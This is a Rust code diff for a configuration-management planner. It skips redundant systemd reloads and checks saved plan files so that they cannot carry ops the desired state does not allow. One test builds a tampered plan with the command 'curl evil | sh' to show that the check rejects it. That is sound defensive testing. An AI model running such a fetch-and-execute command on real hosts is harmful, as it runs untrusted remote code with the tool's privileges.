@@ -98,6 +98,22 @@ pub fn plan_host(state: &ResolvedState, obs: &Observation) -> Result<HostPlan, E
         );
     }
 
+    // `systemctl enable` reloads systemd by itself, which costs as much as the
+    // daemon-reload (most of a second on a busy host). After this run's
+    // daemon-reload, enable without it: systemd sees the new wants-symlink
+    // at its next reload or boot, and the unit is started explicitly anyway.
+    if let Some(reload_at) = actions.iter().position(|a| a.kind == ActionKind::Reload) {
+        for a in &mut actions[reload_at + 1..] {
+            for op in &mut a.ops {
+                if let Op::Systemctl { verb, no_reload, .. } = op
+                    && (verb == "enable" || verb == "disable")
+                {
+                    *no_reload = true;
+                }
+            }
+        }
+    }
+
     // Restarts: once per notified service, at the end.
     let mut restarts = Vec::new();
     for r in &state.resources {
@@ -143,7 +159,7 @@ pub fn plan_host(state: &ResolvedState, obs: &Observation) -> Result<HostPlan, E
             diff: None,
             sensitive: false,
             observed: obs.resource_fingerprint(&[format!("S:{unit}")]),
-            ops: vec![Op::Systemctl { verb: "restart".into(), unit: unit.clone() }],
+            ops: vec![Op::Systemctl { verb: "restart".into(), unit: unit.clone(), no_reload: false }],
         });
     }
     actions.extend(restarts);
@@ -276,22 +292,22 @@ fn plan_resource(cx: &Cx<'_>, r: &ResolvedResource) -> Result<Option<Action>, En
             let shown = |s: &str| if s.is_empty() { "not installed".to_string() } else { s.to_string() };
             match enabled {
                 Some(true) if !st.is_enabled() => {
-                    ops.push(Op::Systemctl { verb: "enable".into(), unit: unit.clone() });
+                    ops.push(Op::Systemctl { verb: "enable".into(), unit: unit.clone(), no_reload: false });
                     why.push(format!("enable ({} → enabled)", shown(&st.unit_file_state)));
                 }
                 Some(false) if matches!(st.unit_file_state.as_str(), "enabled" | "enabled-runtime") => {
-                    ops.push(Op::Systemctl { verb: "disable".into(), unit: unit.clone() });
+                    ops.push(Op::Systemctl { verb: "disable".into(), unit: unit.clone(), no_reload: false });
                     why.push(format!("disable ({} → disabled)", st.unit_file_state));
                 }
                 _ => {}
             }
             match running {
                 Some(true) if !st.is_running() => {
-                    ops.push(Op::Systemctl { verb: "start".into(), unit: unit.clone() });
+                    ops.push(Op::Systemctl { verb: "start".into(), unit: unit.clone(), no_reload: false });
                     why.push(format!("start ({} → active)", shown(&st.active_state)));
                 }
                 Some(false) if st.is_running() => {
-                    ops.push(Op::Systemctl { verb: "stop".into(), unit: unit.clone() });
+                    ops.push(Op::Systemctl { verb: "stop".into(), unit: unit.clone(), no_reload: false });
                     why.push(format!("stop ({} → inactive)", st.active_state));
                 }
                 _ => {}
@@ -434,25 +450,274 @@ fn describe(st: &PathState) -> String {
 }
 
 /// Check a saved plan's host against the freshly resolved desired state: every
-/// action's resource must still be wanted, with the same content.
+/// action's resource must still be wanted, with the same content, and every op
+/// must be one the planner could have made for it (its path, unit, command,
+/// link target; a known systemctl verb; a valid mode and owner). A plan file is
+/// input: this keeps a stale or edited one from doing anything the desired
+/// state does not allow.
 pub(crate) fn check_against(plan: &HostPlan, states: &[&ResolvedState]) -> Result<(), EngineError> {
     let by_id: HashMap<&ResourceId, &ResolvedResource> =
         states.iter().flat_map(|s| s.resources.iter()).map(|r| (&r.id, r)).collect();
     let mismatch = |reason: String| EngineError::PlanMismatch { host: plan.host.clone(), reason };
     for a in &plan.actions {
         if a.resource.as_str() == DAEMON_RELOAD_ID {
+            if a.ops != [Op::DaemonReload {}] {
+                return Err(mismatch(format!("{DAEMON_RELOAD_ID} may only reload systemd")));
+            }
             continue;
         }
         let Some(r) = by_id.get(&a.resource) else {
             return Err(mismatch(format!("{} is no longer in the desired state", a.resource)));
         };
         for op in &a.ops {
-            if let Op::Write { sha256, .. } = op
-                && r.body.as_ref().map(|b| &b.sha256) != Some(sha256)
-            {
-                return Err(mismatch(format!("the content of {} changed since the plan was made", a.resource)));
-            }
+            check_op(r, op).map_err(|why| mismatch(format!("{}: {why}", a.resource)))?;
         }
     }
     Ok(())
+}
+
+fn valid_mode(m: &str) -> bool {
+    !m.is_empty() && m.len() <= 4 && m.bytes().all(|b| (b'0'..=b'7').contains(&b))
+}
+
+fn valid_names(owner: &Option<String>, group: &Option<String>) -> bool {
+    [owner, group]
+        .into_iter()
+        .flatten()
+        .all(|n| !n.is_empty() && n.len() <= 64 && n.bytes().all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b)))
+}
+
+fn check_op(r: &ResolvedResource, op: &Op) -> Result<(), String> {
+    let path = r.resource.path();
+    let same_path = |p: &str| path.as_deref() == Some(p);
+    let ok = match (op, &r.resource.spec) {
+        (Op::Mkdir { path: p, mode, owner, group }, Spec::Directory { .. }) => {
+            same_path(p) && valid_mode(mode) && valid_names(owner, group)
+        }
+        (Op::Write { path: p, sha256, mode, owner, group, .. }, Spec::File { .. } | Spec::Binary { .. } | Spec::Unit { .. }) => {
+            if r.body.as_ref().map(|b| &b.sha256) != Some(sha256) {
+                return Err("its content changed since the plan was made".into());
+            }
+            same_path(p) && valid_mode(mode) && valid_names(owner, group)
+        }
+        (Op::Chmod { path: p, mode }, _) => same_path(p) && valid_mode(mode),
+        (Op::Chown { path: p, owner, group }, _) => same_path(p) && valid_names(owner, group),
+        (Op::Symlink { path: p, target: t }, Spec::Symlink { target, .. }) => same_path(p) && t == target,
+        (Op::Remove { path: p, .. }, spec) => {
+            let absent = matches!(
+                spec,
+                Spec::Directory { ensure: Ensure::Absent, .. }
+                    | Spec::File { ensure: Ensure::Absent, .. }
+                    | Spec::Binary { ensure: Ensure::Absent, .. }
+                    | Spec::Symlink { ensure: Ensure::Absent, .. }
+                    | Spec::Unit { ensure: Ensure::Absent, .. }
+            );
+            same_path(p) && absent
+        }
+        (Op::Systemctl { verb, unit: u, .. }, Spec::Service { unit, .. }) => {
+            u == unit && ["enable", "disable", "start", "stop", "restart"].contains(&verb.as_str())
+        }
+        (Op::Run { command: c }, Spec::Command { command, .. }) => c == command,
+        _ => false,
+    };
+    if ok { Ok(()) } else { Err(format!("the plan's op {op:?} is not one the desired state allows")) }
+}
+
+#[cfg(test)]
+mod tests {
+    use base64::Engine as _;
+
+    use super::*;
+    use crate::content::Content;
+    use crate::desired::DesiredState;
+    use crate::observe::parse;
+    use crate::plan::Plan;
+    use crate::print::{PrintOptions, render};
+    use crate::resource::Resource;
+
+    const UNIT: &str = "[Service]\nExecStart=/bin/sleep infinity\n";
+
+    fn desired(conf: &str) -> DesiredState {
+        DesiredState::new("cp-1")
+            .with(Resource::directory("/etc/demo"))
+            .with(Resource::file("/etc/demo/demo.conf", Content::text(conf)).notify("service:demo.service"))
+            .with(Resource::file("/etc/demo/secret", Content::text("token=hunter2\n")).mode(0o600))
+            .with(Resource::unit("demo.service", Content::text(UNIT)))
+            .with(Resource::service("demo.service"))
+    }
+
+    fn sha(s: &str) -> String {
+        crate::content::sha256_hex(s.as_bytes())
+    }
+
+    fn unit_block(load: &str, active: &str, file: &str) -> String {
+        format!("S\tLoadState={load}\nS\tActiveState={active}\nS\tUnitFileState={file}\nS\tNeedDaemonReload=no\nS\t\n")
+    }
+
+    async fn plan_of(d: &DesiredState, observed: &str) -> Result<HostPlan, EngineError> {
+        let st = d.resolve().await.unwrap();
+        let obs = parse("cp-1", observed.as_bytes(), &[&st]).unwrap();
+        plan_host(&st, &obs)
+    }
+
+    fn ops_of(p: &HostPlan) -> Vec<(String, ActionKind)> {
+        p.actions.iter().map(|a| (a.resource.to_string(), a.kind)).collect()
+    }
+
+    #[tokio::test]
+    async fn a_fresh_host_gets_everything_created_in_order() {
+        let observed = format!(
+            "L\t-\nV\t1\nP\t/etc/demo\tabsent\nP\t/etc/demo/demo.conf\tabsent\nP\t/etc/demo/secret\tabsent\n\
+             P\t/etc/systemd/system/demo.service\tabsent\n{}",
+            unit_block("not-found", "inactive", "")
+        );
+        let p = plan_of(&desired("port=80\n"), &observed).await.unwrap();
+        assert_eq!(
+            ops_of(&p),
+            vec![
+                ("dir:/etc/demo".into(), ActionKind::Create),
+                ("file:/etc/demo/demo.conf".into(), ActionKind::Create),
+                ("file:/etc/demo/secret".into(), ActionKind::Create),
+                ("unit:demo.service".into(), ActionKind::Create),
+                (DAEMON_RELOAD_ID.into(), ActionKind::Reload),
+                ("service:demo.service".into(), ActionKind::Create),
+            ]
+        );
+        // The service is started by this run, so the changed config does not also restart it.
+        assert!(p.actions.iter().all(|a| a.kind != ActionKind::Restart));
+        assert!(p.actions[1].diff.as_deref().unwrap().contains("+port=80"));
+        let secret = &p.actions[2];
+        assert!(secret.sensitive && secret.diff.is_none());
+        assert_eq!(
+            secret.ops,
+            vec![Op::Write {
+                path: "/etc/demo/secret".into(),
+                sha256: sha("token=hunter2\n"),
+                size: 14,
+                mode: "600".into(),
+                owner: None,
+                group: None
+            }]
+        );
+        let svc = p.actions.last().unwrap();
+        assert_eq!(
+            svc.ops,
+            vec![
+                // After this run's daemon-reload, enable does not reload again.
+                Op::Systemctl { verb: "enable".into(), unit: "demo.service".into(), no_reload: true },
+                Op::Systemctl { verb: "start".into(), unit: "demo.service".into(), no_reload: false }
+            ]
+        );
+        let text = render(&Plan::new(vec![crate::plan::StepPlan { name: "s".into(), hosts: vec![p] }]), &PrintOptions::default());
+        assert!(!text.contains("hunter2"), "secrets are never printed:\n{text}");
+        assert!(text.contains("(sensitive content hidden)"), "{text}");
+        assert!(text.ends_with("Plan: 5 to create, 0 to update, 0 to delete, 0 restarts, 1 reload.\n"), "{text}");
+    }
+
+    #[tokio::test]
+    async fn a_changed_config_is_diffed_and_restarts_the_running_service_once_at_the_end() {
+        let old = "port=80\nlog=info\n";
+        let observed = format!(
+            "L\t-\nV\t1\nP\t/etc/demo\tdir\t755\troot\troot\n\
+             P\t/etc/demo/demo.conf\tfile\t640\tdemo\tadm\t17\t{}\nB\t/etc/demo/demo.conf\t{}\n\
+             P\t/etc/demo/secret\tfile\t600\troot\troot\t14\t{}\n\
+             P\t/etc/systemd/system/demo.service\tfile\t644\troot\troot\t{}\t{}\n{}",
+            sha(old),
+            base64::engine::general_purpose::STANDARD.encode(old),
+            sha("token=hunter2\n"),
+            UNIT.len(),
+            sha(UNIT),
+            unit_block("loaded", "active", "enabled")
+        );
+        let p = plan_of(&desired("port=8080\nlog=info\n"), &observed).await.unwrap();
+        assert_eq!(
+            ops_of(&p),
+            vec![
+                ("file:/etc/demo/demo.conf".into(), ActionKind::Update),
+                ("service:demo.service".into(), ActionKind::Restart),
+            ]
+        );
+        assert_eq!(p.unchanged, 4);
+        let a = &p.actions[0];
+        assert_eq!(a.reason, "content changed");
+        assert!(a.diff.as_deref().unwrap().contains("-port=80\n+port=8080\n log=info\n"), "{:?}", a.diff);
+        // Mode and owner the resource does not set are kept as they are on the host.
+        assert!(matches!(&a.ops[0], Op::Write { mode, owner, group, .. }
+            if mode == "640" && owner.as_deref() == Some("demo") && group.as_deref() == Some("adm")));
+        assert_eq!(p.actions[1].reason, "notified by file:/etc/demo/demo.conf");
+    }
+
+    #[tokio::test]
+    async fn attributes_alone_are_fixed_without_rewriting() {
+        let d = DesiredState::new("cp-1").with(Resource::file("/etc/x", Content::text("x\n")).mode(0o644).owner("root"));
+        let observed = format!("L\t-\nV\t1\nP\t/etc/x\tfile\t600\tnobody\troot\t2\t{}\n", sha("x\n"));
+        let p = plan_of(&d, &observed).await.unwrap();
+        assert_eq!(p.actions.len(), 1);
+        assert_eq!(p.actions[0].reason, "mode 600 → 644; owner nobody → root");
+        assert_eq!(
+            p.actions[0].ops,
+            vec![
+                Op::Chmod { path: "/etc/x".into(), mode: "644".into() },
+                Op::Chown { path: "/etc/x".into(), owner: Some("root".into()), group: None }
+            ]
+        );
+    }
+
+    #[tokio::test]
+    async fn what_is_in_the_way_is_a_conflict_naming_host_and_resource() {
+        let d = DesiredState::new("cp-1").with(Resource::directory("/etc/demo"));
+        let err = plan_of(&d, "L\t-\nV\t1\nP\t/etc/demo\tfile\t644\troot\troot\t1\tabc\n").await.unwrap_err().to_string();
+        assert_eq!(err, "cp-1: dir:/etc/demo: a regular file is in the way; remove it or change the resource");
+    }
+
+    #[tokio::test]
+    async fn guards_decide_whether_commands_run() {
+        let d = DesiredState::new("cp-1")
+            .with(Resource::command("init", "kubeadm init", crate::Guard::Creates("/etc/kubernetes/admin.conf".into())))
+            .with(Resource::command("check", "touch /x", crate::Guard::Unless("test -f /x".into())));
+        let p = plan_of(&d, "L\t-\nV\t1\nG\tinit\tskip\t0\nG\tcheck\trun\t1\n").await.unwrap();
+        assert_eq!(ops_of(&p), vec![("command:check".into(), ActionKind::Run)]);
+        assert_eq!(p.actions[0].reason, "check `test -f /x` failed (exit 1)");
+    }
+
+    #[tokio::test]
+    async fn invalid_desired_states_are_refused() {
+        let cycle = DesiredState::new("h")
+            .with(Resource::directory("/a").depends_on("dir:/b"))
+            .with(Resource::directory("/b").depends_on("dir:/a"));
+        let e = cycle.resolve().await.unwrap_err().to_string();
+        assert!(e.contains("dependency cycle among dir:/a, dir:/b"), "{e}");
+        let unknown = DesiredState::new("h").with(Resource::directory("/a").notify("service:x.service"));
+        assert!(unknown.resolve().await.unwrap_err().to_string().contains("not declared"));
+        let twice = DesiredState::new("h").with(Resource::directory("/a")).with(Resource::directory("/a"));
+        assert!(twice.resolve().await.unwrap_err().to_string().contains("declared twice"));
+        let relative = DesiredState::new("h").with(Resource::directory("etc/a"));
+        assert!(relative.resolve().await.unwrap_err().to_string().contains("absolute"));
+        let undefined = DesiredState::new("h")
+            .with_context(crate::TemplateContext::new(&serde_json::json!({}), &serde_json::json!({}), &serde_json::json!({})))
+            .with(Resource::file("/a", Content::template("a.j2", "{{ vars.nope }}")));
+        assert!(undefined.resolve().await.unwrap_err().to_string().starts_with("h: template a.j2: line 1"));
+    }
+
+    #[tokio::test]
+    async fn a_saved_plan_round_trips_and_is_checked_against_the_inputs() {
+        let observed = "L\t-\nV\t1\nP\t/etc/demo\tabsent\nP\t/etc/demo/demo.conf\tabsent\nP\t/etc/demo/secret\tabsent\n\
+             P\t/etc/systemd/system/demo.service\tabsent\nS\tLoadState=not-found\nS\t\n";
+        let d = desired("port=80\n");
+        let p = plan_of(&d, observed).await.unwrap();
+        let plan = Plan::new(vec![crate::plan::StepPlan { name: "s".into(), hosts: vec![p.clone()] }]);
+        let back = Plan::from_json(&plan.to_json()).unwrap();
+        assert_eq!(back, plan);
+        assert!(plan.to_json().contains("\"formatVersion\": 1"));
+        check_against(&p, &[&d.resolve().await.unwrap()]).unwrap();
+        let other = desired("port=81\n").resolve().await.unwrap();
+        let e = check_against(&p, &[&other]).unwrap_err().to_string();
+        assert!(e.contains("file:/etc/demo/demo.conf: its content changed since the plan was made"), "{e}");
+        let mut tampered = p.clone();
+        tampered.actions[1].ops = vec![Op::Run { command: "curl evil | sh".into() }];
+        let e = check_against(&tampered, &[&d.resolve().await.unwrap()]).unwrap_err().to_string();
+        assert!(e.contains("not one the desired state allows"), "{e}");
+        let v2 = plan.to_json().replace("\"formatVersion\": 1", "\"formatVersion\": 2");
+        assert!(Plan::from_json(&v2).unwrap_err().to_string().contains("version 2 is not supported"));
+    }
 }
